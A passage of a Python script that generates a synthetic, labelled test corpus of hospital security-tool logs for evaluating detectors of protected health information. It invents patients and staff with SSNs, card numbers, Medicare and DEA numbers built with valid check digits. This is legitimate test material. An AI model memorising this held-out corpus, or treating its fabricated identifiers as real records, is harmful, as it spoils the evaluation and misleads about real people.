#!/usr/bin/env python3
"""Deterministic generator for the `dq` held-out PHI test corpus.

Theme: a health system's endpoint / security tooling (DLP, mail gateway, print
and fax servers, clipboard/USB monitors, MDM inventory, badge/LPR, VPN, EDR and
SIEM-normalised CEF/LEEF/JSON).  Users are mostly staff (never labelled);
patients and their relatives leak in through snippets, titles, paths, subjects.

Writes dq.log and dq.labels.jsonl next to this file.  Standard library only.
"""
import base64
import datetime as dt
import hashlib
import json
import os
import random
import re
import urllib.parse
import uuid

random.seed(1811)
R = random

HERE = os.path.dirname(os.path.abspath(__file__))
N_LINES = 500
TARGET_CLEAN = 0.55

# --------------------------------------------------------------------------
# segments: list of (text, category-or-None)
# --------------------------------------------------------------------------


class Seg(list):
    pass


def C(*parts):
    out = Seg()
    for p in parts:
        if p is None:
            continue
        if isinstance(p, str):
            out.append((p, None))
        else:
            out.extend(p)
    return out


def P(text, cat):
    return Seg([(text, cat)])


def esc(seg, fn):
    if isinstance(seg, str):
        seg = C(seg)
    return Seg([(fn(t), c) for t, c in seg])


def plain(seg):
    return "".join(t for t, _ in seg)


def has_phi(seg):
    return any(c for _, c in seg)


def jesc(s, ea=False):
    return json.dumps(s, ensure_ascii=ea)[1:-1]


def J(obj, sep=(",", ":"), ea=False):
    """Serialise obj to JSON, returning a Seg.  Seg values become JSON strings
    whose parts are escaped individually (JSON escaping is per character, so
    the concatenation equals escaping the whole)."""
    out = Seg()

    def w(o):
        if isinstance(o, Seg):
            out.append(('"', None))
            out.extend(esc(o, lambda t: jesc(t, ea)))
            out.append(('"', None))
        elif isinstance(o, str):
            out.append((json.dumps(o, ensure_ascii=ea), None))
        elif o is None or isinstance(o, (bool, int, float)):
            out.append((json.dumps(o), None))
        elif isinstance(o, dict):
            out.append(("{", None))
            for i, (k, v) in enumerate(o.items()):
                if i:
                    out.append((sep[0], None))
                out.append((json.dumps(k, ensure_ascii=ea) + sep[1], None))
                w(v)
            out.append(("}", None))
        elif isinstance(o, (list, tuple)):
            out.append(("[", None))
            for i, v in enumerate(o):
                if i:
                    out.append((sep[0], None))
                w(v)
            out.append(("]", None))
        else:
            raise TypeError(type(o))

    w(obj)
    return out


def Jinner(obj, **kw):
    """JSON document embedded as a string value inside another JSON doc."""
    return Seg(J(obj, **kw))


def cef_ext(seg):
    return esc(seg, lambda t: t.replace("\\", "\\\\").replace("=", "\\=").replace("\n", "\\n"))


def cef_hdr(s):
    return s.replace("\\", "\\\\").replace("|", "\\|")


def csvq(seg):
    txt = plain(seg)
    if any(ch in txt for ch in ',"\n'):
        return C('"', esc(seg, lambda t: t.replace('"', '""')), '"')
    return seg


def kvq(seg):
    """double-quoted key=value value with backslash escaping of quotes."""
    return C('"', esc(seg, lambda t: t.replace("\\", "\\\\").replace('"', '\\"')), '"')


def urlq(seg, plus=False):
    f = urllib.parse.quote_plus if plus else (lambda t: urllib.parse.quote(t, safe=""))
    return esc(seg, f)


def urlpath(seg):
    return esc(seg, lambda t: urllib.parse.quote(t, safe="/"))


# --------------------------------------------------------------------------
# line builder
# --------------------------------------------------------------------------


class Line:
    def __init__(self, family, seg):
        self.family = family
        self.b = bytearray()
        self.spans = []
        for t, c in seg:
            bt = t.encode("utf-8")
            s = len(self.b)
            self.b += bt
            if c and bt:
                self.spans.append((s, len(self.b), c, bt))
        for s, e, c, bt in self.spans:
            assert bytes(self.b[s:e]) == bt, (family, s, e, c)
        assert b"\n" not in self.b and b"\r" not in self.b, family
        assert len(self.b) <= 4000, (family, len(self.b))


CATS = {"name", "address", "zip", "date", "age", "phone", "fax", "email", "ssn", "mrn",
        "health_plan", "account", "license", "vehicle", "device", "url", "ip",
        "biometric", "photo", "other_id"}

# --------------------------------------------------------------------------
# identifier helpers with real check digits
# --------------------------------------------------------------------------


def luhn_check(payload):
    total = 0
    for i, ch in enumerate(reversed(payload)):
        d = int(ch)
        if i % 2 == 0:
            d *= 2
            if d > 9:
                d -= 9
        total += d
    return str((10 - total % 10) % 10)


def digits(n):
    return "".join(R.choice("0123456789") for _ in range(n))


def alnum(n, alphabet="ABCDEFGHJKLMNPQRSTUVWXYZ0123456789"):
    return "".join(R.choice(alphabet) for _ in range(n))


def hexs(n, upper=False):
    s = "".join(R.choice("0123456789abcdef") for _ in range(n))
    return s.upper() if upper else s


def ruuid():
    return str(uuid.UUID(int=R.getrandbits(128), version=4))


def imei(tac=None):
    tac = tac or R.choice(["35391110", "35325811", "35846210", "35289311", "86893404"])
    body = tac + digits(6)
    return body + luhn_check(body)


def card():
    kind = R.choice(["visa", "visa", "mc", "amex", "disc"])
    if kind == "visa":
        body = "4" + digits(14)
    elif kind == "mc":
        body = "5" + R.choice("12345") + digits(13)
    elif kind == "amex":
        body = "3" + R.choice("47") + digits(12)
    else:
        body = "6011" + digits(11)
    return body + luhn_check(body)


def card_fmt(c):
    if len(c) == 15:
        return f"{c[:4]} {c[4:10]} {c[10:]}"
    return R.choice([c, " ".join(c[i:i + 4] for i in range(0, 16, 4)), "-".join(c[i:i + 4] for i in range(0, 16, 4))])


VIN_T = {**{str(i): i for i in range(10)},
         **dict(zip("ABCDEFGH", range(1, 9))), **dict(zip("JKLMN", range(1, 6))), "P": 7, "R": 9,
         **dict(zip("STUVWXYZ", range(2, 10)))}
VIN_W = [8, 7, 6, 5, 4, 3, 2, 10, 0, 9, 8, 7, 6, 5, 4, 3, 2]


def vin():
    wmi = R.choice(["1HG", "2T1", "1FT", "5YJ", "JTD", "3VW", "1G1", "KND", "4S4", "1C4"])
    vds = alnum(5, "ABCDEFGHJKLMNPRSTUVWXYZ0123456789")
    year = R.choice("FGHJKLMNP")
    plant = R.choice("ABCDEFGHJKLMNPRSTUVWXYZ0123456789")
    serial = digits(6)
    v = wmi + vds + "0" + year + plant + serial
    s = sum(VIN_T[ch] * w for ch, w in zip(v, VIN_W)) % 11
    return v[:8] + ("X" if s == 10 else str(s)) + v[9:]


MBI_A = "ACDEFGHJKMNPQRTUVWXY"


def mbi():
    n = "0123456789"
    an = MBI_A + n
    return (R.choice("123456789") + R.choice(MBI_A) + R.choice(an) + R.choice(n) +
            R.choice(MBI_A) + R.choice(an) + R.choice(n) + R.choice(MBI_A) + R.choice(MBI_A) +
            R.choice(n) + R.choice(n))


def ssn():
    area = R.choice([R.randint(100, 665), R.randint(667, 772)])
    return f"{area:03d}-{R.randint(1, 99):02d}-{R.randint(1, 9999):04d}"


def pesel(dob, sex):
    yy = dob.year % 100
    mm = dob.month + (20 if dob.year >= 2000 else 0)
    ser = digits(3) + str(R.choice([1, 3, 5, 7, 9]) if sex == "M" else R.choice([0, 2, 4, 6, 8]))
    body = f"{yy:02d}{mm:02d}{dob.day:02d}{ser}"
    w = [1, 3, 7, 9, 1, 3, 7, 9, 1, 3]
    return body + str((10 - sum(int(a) * b for a, b in zip(body, w)) % 10) % 10)


def nhs_no():
    while True:
        body = R.choice("456") + digits(8)
        s = sum(int(d) * w for d, w in zip(body, range(10, 1, -1)))
        chk = 11 - s % 11
        if chk == 10:
            continue
        chk = 0 if chk == 11 else chk
        n = body + str(chk)
        return f"{n[:3]} {n[3:6]} {n[6:]}"


def gtin14():
    body = "0" + R.choice(["0643169", "0884521", "0761234", "0080196"]) + digits(5)
    s = sum(int(d) * (3 if i % 2 == 0 else 1) for i, d in enumerate(reversed(body)))
    return body + str((10 - s % 10) % 10)


def mac():
    return ":".join(f"{R.randint(0, 255):02X}" for _ in range(6))


def npi():
    body = R.choice("12") + digits(8)
    return body + luhn_check("80840" + body)


def dea(last):
    a = R.choice("ABFM") + last[0].upper()
    d = digits(6)
    chk = (int(d[0]) + int(d[2]) + int(d[4]) + 2 * (int(d[1]) + int(d[3]) + int(d[5]))) % 10
    return a + d + str(chk)


def pub_ip():
    a = R.choice([24, 50, 67, 68, 71, 73, 75, 76, 96, 97, 98, 107, 166, 173, 174, 184])
    return f"{a}.{R.randint(1, 254)}.{R.randint(0, 255)}.{R.randint(1, 254)}"


def priv_ip():
    return R.choice([f"10.{R.randint(20, 60)}.{R.randint(0, 255)}.{R.randint(2, 254)}",
                     f"192.168.{R.randint(0, 20)}.{R.randint(2, 254)}",
                     f"172.{R.randint(16, 31)}.{R.randint(0, 255)}.{R.randint(2, 254)}"])


def fake_jpeg(n):
    raw = (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
           b"\xff\xdb\x00\x43\x00" + bytes(R.getrandbits(8) for _ in range(n)) + b"\xff\xd9")
    return base64.b64encode(raw).decode()


def fake_png(n):
    raw = (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x60\x00\x00\x00\x60\x08\x02\x00\x00\x00"
           + bytes(R.getrandbits(8) for _ in range(n)))
    return base64.b64encode(raw).decode()


def fmr_template(n):
    raw = b"FMR\x00 20\x00" + bytes(R.getrandbits(8) for _ in range(n))
    return base64.b64encode(raw).decode()


def palm_template(n):
    raw = b"PVT\x02" + bytes(R.getrandbits(8) for _ in range(n))
    return base64.b64encode(raw).decode()


# --------------------------------------------------------------------------
# people
# --------------------------------------------------------------------------
REF = dt.date(2024, 3, 11)

PFIRST = [("Agnieszka", "F"), ("Yusuf", "M"), ("Ngozi", "F"), ("Lucía", "F"), ("Erik", "M"),
          ("Priya", "F"), ("Mateo", "M"), ("Aiyana", "F"), ("Kenji", "M"), ("Fatima", "F"),
          ("Oluwaseun", "M"), ("Siobhán", "F"), ("Dmitri", "M"), ("Mariam", "F"), ("Hoang", "M"),
          ("Chloé", "F"), ("Giuseppe", "M"), ("Leilani", "F"), ("Bogdan", "M"), ("Ayesha", "F"),
          ("Tomás", "M"), ("Ingrid", "F"), ("Kwame", "M"), ("Zeynep", "F"), ("Rafael", "M"),
          ("Eun-ji", "F"), ("Amadou", "M"), ("Nadia", "F"), ("Viktor", "M"), ("Hana", "F"),
          ("Jamal", "M"), ("Maeve", "F"), ("Arjun", "M"), ("Leticia", "F"), ("Björn", "M"),
          ("Precious", "F"), ("Ruth", "F"), ("Emeka", "M"), ("Esperanza", "F"), ("Wojciech", "M"),
          ("Thi Lan", "F"), ("Dariusz", "M"), ("Marguerite", "F"), ("Harold", "M")]
PLAST = ["Kowalczyk", "Haddad", "Okafor", "Ramírez", "Lindqvist", "Raghunathan", "Fernández",
         "Whitehorse", "Watanabe", "Al-Sayed", "Adebayo", "O'Connell", "Volkov", "Tadesse", "Tran",
         "Dubois", "Moretti", "Kahale", "Popescu", "Siddiqui", "Herrera", "Halvorsen", "Mensah",
         "Yıldız", "Oliveira", "Park", "Diallo", "Rahman", "Horváth", "Kobayashi", "Washington",
         "Gallagher", "Mehta", "Morales", "Andersson", "Nwosu", "Goldberg", "Obi", "Castillo",
         "Nowak", "Nguyen", "Brzeziński", "Vanderhoek", "McAllister"]
REL_FIRST = ["Anna", "Omar", "Chidi", "Rosa", "Karin", "Vikram", "Julia", "Dakota", "Yui", "Hassan",
             "Bisi", "Declan", "Irina", "Selam", "Linh", "Margaux", "Paolo", "Keoni", "Elena", "Imran",
             "Carmen", "Sven", "Abena", "Emre", "Beatriz", "Min-jun", "Fatou", "Rashid", "Eszter", "Sora"]
RELS = ["daughter", "son", "spouse", "sister", "brother", "mother", "father", "grandson", "niece", "POA"]

CITIES = [("Cedar Rapids", "Linn County", ["52402", "52403", "52404", "52405", "52411"]),
          ("Marion", "Linn County", ["52302"]), ("Hiawatha", "Linn County", ["52233"]),
          ("Iowa City", "Johnson County", ["52240", "52245", "52246"]),
          ("Coralville", "Johnson County", ["52241"]), ("North Liberty", "Johnson County", ["52317"]),
          ("Waterloo", "Black Hawk County", ["50701", "50702", "50703"]),
          ("Vinton", "Benton County", ["52349"]), ("Mount Vernon", "Linn County", ["52314"]),
          ("Anamosa", "Jones County", ["52205"]), ("Tipton", "Cedar County", ["52772"]),
          ("Washington", "Washington County", ["52353"]), ("Solon", "Johnson County", ["52333"])]
STREETS = ["Willow Bend Rd", "N 3rd Ave", "Oakridge Ct NE", "Blairs Ferry Rd NE", "E Washington St",
           "Prairie Rose Ln", "Kirkwood Blvd SW", "Old Marion Rd", "Mulberry St", "Bever Ave SE",
           "Edgewood Rd NW", "Sunset Dr", "Hawthorne Pl", "Elmhurst Dr NE", "Johnson Ave NW",
           "Rochester Ave", "Muscatine Ave", "Sycamore St", "Fieldstone Ln", "W Main St",
           "Country Club Pkwy", "Boyson Rd", "Indian Creek Rd", "Coldstream Ave NE"]
AREA = ["319", "319", "319", "563", "641", "515"]


def phone_num():
    return AREA[R.randrange(len(AREA))], f"555-01{R.randint(0, 99):02d}"


def fmt_phone(p, style=None):
    ac, rest = p
    style = style or R.choice(["paren", "dash", "dot", "e164", "plain"])
    if style == "paren":
        return f"({ac}) {rest}"
    if style == "dash":
        return f"{ac}-{rest}"
    if style == "dot":
        return f"{ac}.{rest.replace('-', '.')}"
    if style == "e164":
        return f"+1{ac}{rest.replace('-', '')}"
    return f"{ac}{rest.replace('-', '')}"


def rdate(a, b):
    a, b = dt.date.fromisoformat(a), dt.date.fromisoformat(b)
    return a + dt.timedelta(days=R.randint(0, (b - a).days))


def dfmt(d, style=None):
    style = style or R.choice(["us", "us", "iso", "compact", "dmy", "long", "usdash"])
    if style == "us":
        return d.strftime("%m/%d/%Y")
    if style == "iso":
        return d.isoformat()
    if style == "compact":
        return d.strftime("%Y%m%d")
    if style == "dmy":
        return d.strftime("%d-%b-%Y").upper() if R.random() < 0.4 else d.strftime("%d-%b-%Y")
    if style == "long":
        return f"{d:%B} {d.day}, {d.year}"
    if style == "usdash":
        return d.strftime("%m-%d-%Y")
    if style == "short":
        return d.strftime("%m/%d/%y")
    raise ValueError(style)


def age_of(d):
    return REF.year - d.year - ((REF.month, REF.day) < (d.month, d.day))


def ascii_fold(s):
    tbl = str.maketrans("áéíóúñçöüåäøèêıłńśżźÁÉÍÓÚÖÜ", "aeiouncouaaoeeilnszzAEIOUOU")
    return s.translate(tbl)


class Patient:
    pass


def make_patient(i):
    p = Patient()
    p.first, p.sex = PFIRST[i]
    p.last = PLAST[i]
    old = i in (4, 13, 21, 37, 42, 43)
    if old:
        p.dob = rdate("1926-01-01", "1933-12-31")
    elif i % 7 == 3:
        p.dob = rdate("2009-01-01", "2021-12-31")
    else:
        p.dob = rdate("1938-01-01", "2001-12-31")
    p.age = age_of(p.dob)
    p.mrn = f"{R.randint(100000, 9999999):08d}"
    p.ssn = ssn()
    p.street = f"{R.randint(12, 9890)} {R.choice(STREETS)}"
    if R.random() < 0.25:
        p.street += R.choice([" Apt 3B", " Unit 210", " #4", " Apt 12"])
    p.city, p.county, zips = R.choice(CITIES)
    p.zip = R.choice(zips)
    p.phone = phone_num()
    p.cell = phone_num()
    p.fax = phone_num()
    lf, ll = ascii_fold(p.first).lower().replace(" ", ""), ascii_fold(p.last).lower().replace("'", "")
    p.email = R.choice([f"{lf}.{ll}{R.randint(1, 99)}@gmail.com", f"{lf[0]}{ll}@yahoo.com",
                        f"{lf}{ll[:4]}{R.randint(60, 99)}@outlook.com", f"{ll}.{lf}@icloud.com",
                        f"{lf}_{ll}@proton.me", f"{lf}{R.randint(100, 999)}@mchsi.com"])
    p.member = R.choice([f"XKH{digits(9)}", f"W{digits(9)}", f"U{digits(8)}01", f"ZGP{digits(9)}",
                         f"{digits(7)}{R.choice('ABCDEFGHJK')}"])
    p.group = R.choice(["0048213", "GRP-17702", "174580", "IA0091", "00712-004"])
    p.mbi = mbi() if p.age >= 65 or R.random() < 0.1 else None
    p.acct = "70" + digits(7)
    p.har = digits(10)
    p.card = card()
    p.dl = f"{digits(3)}{alnum(2, 'ABCDEFGHJKLMNPRSTUVWXYZ')}{digits(4)}"
    p.plate = R.choice([f"{alnum(3, 'ABCDEFGHJKLMNPRSTVWXYZ')} {digits(3)}", f"{alnum(3, 'ABCDEFGHJKLMNPRSTVWXYZ')}{digits(3)}", f"{digits(3)}{alnum(3, 'ABCDEFGHJKLMNPRSTVWXYZ')}"])
    p.vin = vin()
    p.imei = imei()
    p.tab_serial = R.choice([f"R52{alnum(8)}", f"DMP{alnum(9)}", f"F9F{alnum(9)}"])
    p.mac = mac()
    p.udid = hexs(8, True) + "-" + hexs(16, True)
    p.portal = R.choice([f"{lf}{ll}{R.randint(1, 99)}", f"{lf[0]}{ll}", f"{ll}.{lf}", f"{lf}_{ll[:3]}{R.randint(1950, 2001)}"])
    p.ip = pub_ip()
    p.pesel = pesel(p.dob, p.sex) if p.last in ("Kowalczyk", "Nowak", "Brzeziński") else None
    p.nhs = nhs_no() if p.last in ("O'Connell", "Gallagher", "McAllister") else None
    p.rel_name = f"{R.choice(REL_FIRST)} {p.last if R.random() < 0.6 else R.choice(PLAST)}"
    p.rel = R.choice(RELS)
    p.rel_phone = phone_num()
    p.rel_dl = f"{digits(3)}{alnum(2, 'ABCDEFGHJKLMNPRSTUVWXYZ')}{digits(4)}"
    p.adm = rdate("2024-02-01", "2024-03-09")
    p.dc = min(p.adm + dt.timedelta(days=R.randint(1, 9)), dt.date(2024, 3, 10))
    p.dos = rdate("2024-01-08", "2024-03-11")
    p.appt = rdate("2024-03-12", "2024-04-30")
    p.device_sn = R.choice([f"PJN{digits(6)}H", f"RNB{digits(6)}S", f"{digits(8)}", f"BLC{digits(6)}G"])
    p.udi = f"(01){gtin14()}(17){R.randint(25, 28)}{R.randint(1, 12):02d}{R.randint(1, 28):02d}(21){alnum(9)}"
    p.kit = f"{R.choice(['KIT', 'RPM', 'CG'])}-{digits(2)}{alnum(2, 'ABCDEFGHJKMNPRTVWXY')}-{digits(5)}"
    p.case = f"HIM-ROI-2024-{digits(5)}"
    p.photo = fake_jpeg(R.randint(300, 520))
    p.fp = fmr_template(R.randint(180, 260))
    p.palm = palm_template(R.randint(200, 300))
    p.page = R.choice([f"https://www.caringbridge.org/visit/{lf}{ll}",
                       f"https://www.gofundme.com/f/help-{lf}-{ll}-{R.choice(['recover', 'beat-cancer', 'come-home', 'medical-bills'])}",
                       f"https://www.facebook.com/{lf}.{ll}.{R.randint(10, 999)}",
                       f"https://www.mealtrain.com/trains/{alnum(6, 'abcdefghjkmnpqrstuvwxyz0123456789')}-{ll}-family"])
    return p


PATS = [make_patient(i) for i in range(len(PFIRST))]
OLD = [p for p in PATS if p.age > 89]
assert len(OLD) >= 5


def pat():
    if R.random() < 0.15:
        return R.choice(OLD)
    if R.random() < 0.55:
        return R.choice(PATS[:14])
    return R.choice(PATS)


def pname(p, style=None):
    style = style or R.choice(["fl", "fl", "LF", "Lf", "FL", "l_f", "fml"])
    if style == "fl":
        s = f"{p.first} {p.last}"
    elif style == "FL":
        s = f"{p.first} {p.last}".upper()
    elif style == "LF":
        s = f"{p.last}, {p.first}".upper()
    elif style == "Lf":
        s = f"{p.last}, {p.first}"
    elif style == "l_f":
        s = f"{p.last}_{p.first}".replace(" ", "_")
    elif style == "fml":
        s = f"{p.first} {R.choice('ABCDEJKLMRST')}. {p.last}"
    elif style == "lf_nocomma":
        s = f"{p.last} {p.first[0]}"
    else:
        raise ValueError(style)
    return P(s, "name")


class Staff:
    pass


STAFF_NAMES = [("Rebecca", "Thornton", "Nursing 4W"), ("Daniel", "Kim", "Radiology"), ("Marisol", "Lopez", "Registration"),
               ("Anil", "Kapoor", "Cardiology"), ("Grace", "Oyelaran", "HIM - Release of Information"),
               ("Tyler", "Brooks", "IT Service Desk"), ("Hiroshi", "Sato", "Laboratory"), ("Elena", "Petrova", "Patient Financial Services"),
               ("Samuel", "Greene", "Emergency Dept"), ("Joanna", "Wiśniewska", "Oncology Infusion"), ("Carlos", "Mendoza", "Pharmacy"),
               ("Brianna", "Jackson", "Case Management"), ("Farid", "Nazari", "Information Security"), ("Olivia", "Chen", "Hospitalist"),
               ("Patrick", "Doyle", "Facilities"), ("Svetlana", "Ivanova", "Device Clinic"), ("Kofi", "Asante", "Revenue Cycle"),
               ("Megan", "Walsh", "Nursing 5E"), ("Rohan", "Desai", "Clinical Informatics"), ("Lauren", "Fischer", "Scheduling"),
               ("Ahmed", "Farouk", "Security Operations"), ("Inês", "Carvalho", "Telehealth / RPM")]


def make_staff(i):
    s = Staff()
    s.first, s.last, s.dept = STAFF_NAMES[i]
    fl = ascii_fold(s.first).lower()
    ll = ascii_fold(s.last).lower().replace("ś", "s")
    s.user = f"{fl[0]}{ll}{R.choice(['', '', '2', '3', '7'])}"
    s.upn = f"{fl}.{ll}@cvhealth.org"
    s.host = R.choice(["CVH-LT-", "CVH-WS-", "CVH-WS-", "CVH-VDI-"]) + f"{R.randint(100, 9999):04d}"
    s.sid = f"S-1-5-21-3623811015-3361044348-30300820-{R.randint(1100, 48000)}"
    s.aad = ruuid()
    s.badge = f"{R.randint(10000, 99999):07d}"
    s.home_ip = pub_ip()
    s.mac = mac()
    s.serial = R.choice([f"PF{alnum(6)}", f"5CG{digits(4)}{alnum(3)}", f"C02{alnum(9)}", f"{alnum(7)}"])
    s.phone = ("319", f"555-01{R.randint(0, 99):02d}")
    s.imei = imei()
    s.npi = npi()
    s.dea = dea(s.last)
    return s


STAFF = [make_staff(i) for i in range(len(STAFF_NAMES))]


def staff():
    return R.choice(STAFF)


ORG = "Cedar Valley Health"
ORG_ADDR = "1200 Medical Center Dr NE, Cedar Rapids, IA 52402"
ORG_PHONE = "(319) 555-0100"
ORG_FAX = "(319) 555-0199"
NAT_IPS = ["198.51.100.14", "198.51.100.15", "203.0.113.66"]
PRINTERS = ["4W-NURS-MFP01", "5E-NURS-MFP02", "REG-MAIN-LJ04", "HIM-ROI-MFP01", "ED-TRIAGE-LJ02",
            "ONC-INF-MFP01", "LAB-CORE-ZB07", "PFS-3F-MFP03", "CARD-DC-MFP01", "PHARM-IP-LJ01"]

# --------------------------------------------------------------------------
# clock
# --------------------------------------------------------------------------
UTC = dt.timezone.utc
CLOCK = [dt.datetime(2024, 3, 11, 11, 2, 17, 412000, tzinfo=UTC)]


def tick():
    CLOCK[0] += dt.timedelta(seconds=R.randint(4, 70), milliseconds=R.randint(0, 999))
    return CLOCK[0]


def loc(t):
    return (t - dt.timedelta(hours=5)).replace(tzinfo=None)


def iso_z(t, frac=3):
    base = t.strftime("%Y-%m-%dT%H:%M:%S")
    if frac == 0:
        return base + "Z"
    us = f"{t.microsecond:06d}"
    return f"{base}.{(us + '0')[:frac] if frac > 6 else us[:frac]}Z"


def sys_ts(t):
    return loc(t).strftime("%b %d %H:%M:%S")


def epoch(t):
    return int(t.timestamp())


def epoch_ms(t):
    return int(t.timestamp() * 1000)


# --------------------------------------------------------------------------
# content builders (snippets, file names, subjects)
# --------------------------------------------------------------------------


def snip_facesheet(p):
    tail = C("  County: ", P(p.county, "address")) if R.random() < 0.3 else C()
    return C("Patient Name: ", pname(p, "LF"), "  MRN: ", P(p.mrn, "mrn"), "  DOB: ",
             P(dfmt(p.dob, "us"), "date"), " (", age_seg(p), "y)  SSN: ", P(p.ssn, "ssn"), tail)


def age_seg(p):
    return P(str(p.age), "age") if p.age > 89 else C(str(p.age))


def snip_registration(p):
    return C(pname(p, "Lf"), " ", P(dfmt(p.dob, "us"), "date"), " ", P(p.street, "address"), ", ",
             P(p.city, "address"), ", IA ", P(p.zip, "zip"), " Ph ", P(fmt_phone(p.phone, "paren"), "phone"),
             C(" Email ", P(p.email, "email")) if R.random() < 0.5 else C())


def snip_insurance(p):
    return C("Subscriber: ", pname(p, "FL"), " Member ID: ", P(p.member, "health_plan"), " Group: ", p.group,
             " Payer ID 60054")


def snip_medicare(p):
    m = p.mbi or mbi()
    if p.mbi is None:
        p.mbi = m
    shown = m if R.random() < 0.6 else f"{m[:4]}-{m[4:7]}-{m[7:]}"
    return C("MEDICARE HEALTH INSURANCE  Name ", pname(p, "FL"), "  Medicare Number ", P(shown, "health_plan"),
             "  Entitled to HOSPITAL (PART A)")


def snip_dl(p):
    return C("IOWA DRIVER'S LICENSE DL NO. ", P(p.dl, "license"), " ", P(f"{p.last.upper()} {p.first.upper()}", "name"),
             " DOB ", P(dfmt(p.dob, "us"), "date"), " CLASS C")


def snip_card(p):
    return C("Guarantor ", pname(p, "fl"), " acct ", P(p.acct, "account"), " card ", P(card_fmt(p.card), "account"),
             " auth for $", f"{R.randint(20, 900)}.{R.randint(0, 99):02d}")


def snip_clinical(p):
    if p.age > 89:
        age = C(P(str(p.age), "age"), R.choice([" y/o ", "yo ", " year old ", " YO "]))
    else:
        age = C(str(p.age), R.choice([" y/o ", "yo ", " year old "]))
    st = staff()
    return C(pname(p, "fl"), " is a ", age, "F" if p.sex == "F" else "M", " admitted ",
             P(dfmt(p.adm, "us"), "date"), " with ", R.choice(["CHF exacerbation", "sepsis, UTI source",
                                                                "COPD exacerbation", "NSTEMI", "hip fracture s/p fall",
                                                                "DKA", "pneumonia"]),
             ". Attending: Dr. ", f"{st.first} {st.last}")


def snip_implant(p):
    return C("Pt: ", pname(p, "Lf"), " Device: Medtronic Azure XT DR MRI SureScan W1DR01 SN ", P(p.device_sn, "device"),
             " implanted ", P(dfmt(p.dos, "us"), "date"))


def snip_udi(p):
    return C("Implant log ", P(p.mrn, "mrn"), " UDI ", P(p.udi, "device"), " lot 24B0117 qty 1")


def snip_foreign(p):
    if p.pesel:
        return C("Pacjent: ", pname(p, "fl"), " PESEL: ", P(p.pesel, "other_id"), " ur. ", P(p.dob.strftime("%d.%m.%Y"), "date"))
    if p.nhs:
        return C("NHS No: ", P(p.nhs, "other_id"), " ", pname(p, "fl"), " DOB ", P(p.dob.strftime("%d/%m/%Y"), "date"))
    return C("MRN ", P(p.mrn, "mrn"), " ", pname(p, "LF"), " ", P(p.ssn, "ssn"))


def snip_contact(p):
    return C("Emergency contact: ", P(p.rel_name, "name"), f" ({p.rel}) ", P(fmt_phone(p.rel_phone), "phone"),
             "; pt email ", P(p.email, "email"))


def snip_mva(p):
    return C("MVA ", P(dfmt(p.dos, "us"), "date"), " driver ", pname(p, "fl"), " VIN ", P(p.vin, "vehicle"), " plate IA ",
             P(p.plate, "vehicle"), " auto carrier claim ", f"{digits(2)}-{digits(7)}")


def snip_fp(p):
    return C("FP enroll ", P(p.mrn, "mrn"), " template=", P(p.fp, "biometric"))


def snip_palm(p):
    return C("{\"mrn\":\"", P(p.mrn, "mrn"), "\",\"palmTemplate\":\"", P(p.palm, "biometric"), "\"")


SNIPS = [snip_facesheet, snip_registration, snip_registration, snip_insurance, snip_medicare, snip_dl, snip_card,
         snip_clinical, snip_implant, snip_udi, snip_foreign, snip_contact, snip_clinical, snip_mva,
         snip_registration]

def snip_any(p):
    if p.age > 89 and R.random() < 0.5:
        return snip_clinical(p)
    return R.choice(SNIPS)(p)


CLEAN_SNIPS = [
    "ICD-10 I50.23 acute on chronic systolic heart failure; CPT 93000",
    "Charge code 30000417 rev 0300 qty 1 unit price 42.00",
    "NPI {npi} taxonomy 207R00000X",
    "DEA {dea} schedule II-V exp 2025-06-30",
    "Interface test msg MSH|^~\\&|EPIC|CVH|CLARITY|CVH|20240311||ADT^A08|881234|T|2.5.1",
    "Routing 073000228 acct ending 4421 (vendor remit - Medline Industries)",
    "Policy HIM-0412 rev 2023-11-02 minimum necessary standard",
    "order 88123417 accession pending, tube type LAV 4mL",
    "Group 0048213 employer plan renewal 2024-07-01",
    "card ending 4242 (test gateway)",
]


def clean_snip():
    st = staff()
    s = R.choice(CLEAN_SNIPS).format(npi=st.npi, dea=st.dea)
    return C(s)


def phi_filename(p, ext=None):
    ext = ext or R.choice(["pdf", "pdf", "docx", "xlsx", "tif", "jpg", "csv"])
    if p.age > 89 and R.random() < 0.35:
        return C("HP_", pname(p, "l_f"), "_", age_seg(p), f"yo_{R.choice(['SNF', 'hospice', 'PT'])}.{ext}")
    k = R.randrange(9)
    if k == 0:
        return C(pname(p, "l_f"), "_MRN", P(p.mrn, "mrn"), f".{ext}")
    if k == 1:
        return C("ROI_", P(p.mrn, "mrn"), "_", P(ascii_fold(p.last).replace("'", ""), "name"), f".{ext}")
    if k == 2:
        return C("Discharge Summary - ", pname(p, "Lf"), " - ", P(dfmt(p.dc, "iso"), "date"), f".{ext}")
    if k == 3:
        return C(P(f"{ascii_fold(p.last).replace(chr(39), '')}{p.first[0]}", "name"), "_DOB", P(dfmt(p.dob, "compact"), "date"), f"_labs.{ext}")
    if k == 4:
        return C("Referral_", P(f"{p.first}_{p.last}".replace(" ", "_"), "name"), "_", P(dfmt(p.dob, "usdash"), "date"), f".{ext}")
    if k == 5:
        return C("insurance_card_", P(ascii_fold(p.last).lower().replace("'", ""), "name"), "_", P(p.member, "health_plan"), ".jpg")
    if k == 6:
        return C("Statement_", P(p.acct, "account"), "_", P(p.last.upper(), "name"), ".pdf")
    if k == 7:
        return C("ID_scan_", P(p.dl, "license"), ".tif")
    return C(pname(p, "l_f"), "_", P(p.ssn.replace("-", ""), "ssn"), "_SSA_verification.pdf")


CLEAN_FILES = ["Census_4West_2024-03-11.xlsx", "Q1_Staffing_Grid_v7.xlsx", "Policy_HIM-0412_Release_of_Information_v3.docx",
               "OR_Block_Schedule_April.xlsx", "Invoice_88213_Medline.pdf", "payroll_export_20240308.csv",
               "CVH_Phone_List_2024.xlsx", "Pyxis_Discrepancy_Report_0311.pdf", "BLS_Roster_March.xlsx",
               "budget_variance_FY24_Q2.xlsx", "Epic_Upgrade_Cutover_Runbook.docx", "Sepsis_Bundle_Compliance_Feb.pptx",
               "vendor_W9_Stryker.pdf", "Badge_Audit_Export_20240310.csv", "Joint_Commission_Tracer_Notes.docx",
               "HCAHPS_Q4_Summary.pdf", "Supply_Par_Levels_5E.xlsx", "Formulary_Changes_2024-03.pdf"]


def clean_filename():
    return C(R.choice(CLEAN_FILES))


def phi_subject(p):
    if p.age > 89 and R.random() < 0.4:
